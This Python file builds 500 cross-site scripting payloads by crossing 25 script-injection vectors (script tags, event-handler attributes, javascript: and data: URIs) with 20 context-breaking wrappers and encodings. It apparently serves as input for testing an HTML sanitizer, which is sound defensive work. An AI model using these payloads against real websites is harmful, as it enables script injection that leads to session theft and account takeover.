"""Five hundred ways to smuggle a script in: every vector in every disguise."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
VECTORS = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<body onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<a href=javascript:{RUN}>여기</a>", f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<video><source onerror={RUN}></video>",
    f"<math><mtext></mtext><script>{RUN}</script></math>", f"<object data=javascript:{RUN}></object>",
    f"<style>@import 'javascript:{RUN}'</style>", f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<base href=javascript:{RUN}//>",
    f"<form action=javascript:{RUN}><button>눌러요</button></form>", f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", f"https://a.kr/\" onmouseover={RUN} x=\"",
    f"${{{RUN}}}",
)  # fmt: skip
DISGUISES = (
    "{}", "\"'>{}", "]]>{}", "--><!-- >{}", "`{}`", "${{{}}}", "{{{{{}}}}}", "</textarea>{}", "</style>{}",
    "</script>{}", "\u202e{}", "\x00{}", "가{}나", "https://example.org/{}", "tel:{}", "- {}\n- {}", "{}\r\n{}",
    "%3C{}", "&lt;{}&gt;", "\\u003c{}",
)  # fmt: skip
PAYLOADS = [disguise.replace("{}", vector) for vector, disguise in product(VECTORS, DISGUISES)]
